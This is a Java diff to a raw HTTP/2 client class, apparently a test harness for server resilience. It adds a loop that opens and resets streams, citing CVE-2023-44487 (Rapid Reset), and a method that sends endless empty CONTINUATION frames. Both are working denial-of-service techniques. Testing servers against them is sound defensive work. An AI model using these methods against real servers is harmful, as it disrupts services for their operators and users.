@@ -34,6 +34,9 @@ public final class RawHttp2 implements AutoCloseable {
     private final DataInputStream in;
     private final Map<Integer, Long> settings = new HashMap<>();
 
+    /// One for the connection: each header may refer to those before it.
+    private final DefaultHttp2HeadersDecoder decoder = new DefaultHttp2HeadersDecoder(false);
+
     /// @param socket a TLS connection on which h2 was agreed
     public RawHttp2(SSLSocket socket) throws IOException {
         this.socket = socket;
@@ -59,15 +62,21 @@ public final class RawHttp2 implements AutoCloseable {
         }
     }
 
-    /// Begins a request on stream 1 whose headers go on with so many CONTINUATION frames of nothing, and never end.
-    public void neverEnd(int frames, String... fields) throws IOException {
+    /// Begins a request on a stream and takes it back at once, as often as told: CVE-2023-44487. RFC 9113 section 10.5.
+    public void beginAndReset(int times, String... fields) throws IOException {
+        byte[] block = encode(fields);
+        byte[] cancel = {0, 0, 0, 8};
+        for (int stream = 1; stream < 2 * times; stream += 2) {
+            frame(HEADERS, END_STREAM | END_HEADERS, stream, block);
+            frame(RST_STREAM, 0, stream, cancel);
+        }
+    }
+
+    /// Begins a header and goes on with it in frames that have nothing in them. RFC 9113 section 6.10.
+    public void continueForever(int times, String... fields) throws IOException {
         frame(HEADERS, END_STREAM, 1, encode(fields));
-        try {
-            for (int i = 0; i < frames; i++) {
-                frame(CONTINUATION, 0, 1, new byte[0]);
-            }
-        } catch (SocketException _) {
-            // Closed on us, which the outcome says.
+        for (int i = 0; i < times; i++) {
+            frame(CONTINUATION, 0, 1, new byte[0]);
         }
     }
 
@@ -119,15 +128,13 @@ public final class RawHttp2 implements AutoCloseable {
         frame(SETTINGS, ACK, 0, new byte[0]);
     }
 
-    private static String status(int flags, byte[] payload) throws IOException {
+    private String status(int flags, byte[] payload) throws IOException {
         ByteBuf block = Unpooled.wrappedBuffer(payload);
         if ((flags & PRIORITY) != 0) {
             block.skipBytes(PRIORITY_LENGTH);
         }
         try {
-            return String.valueOf(new DefaultHttp2HeadersDecoder(false)
-                    .decodeHeaders(1, block)
-                    .status());
+            return String.valueOf(decoder.decodeHeaders(1, block).status());
         } catch (Http2Exception e) {
             throw new IOException(e);
         }
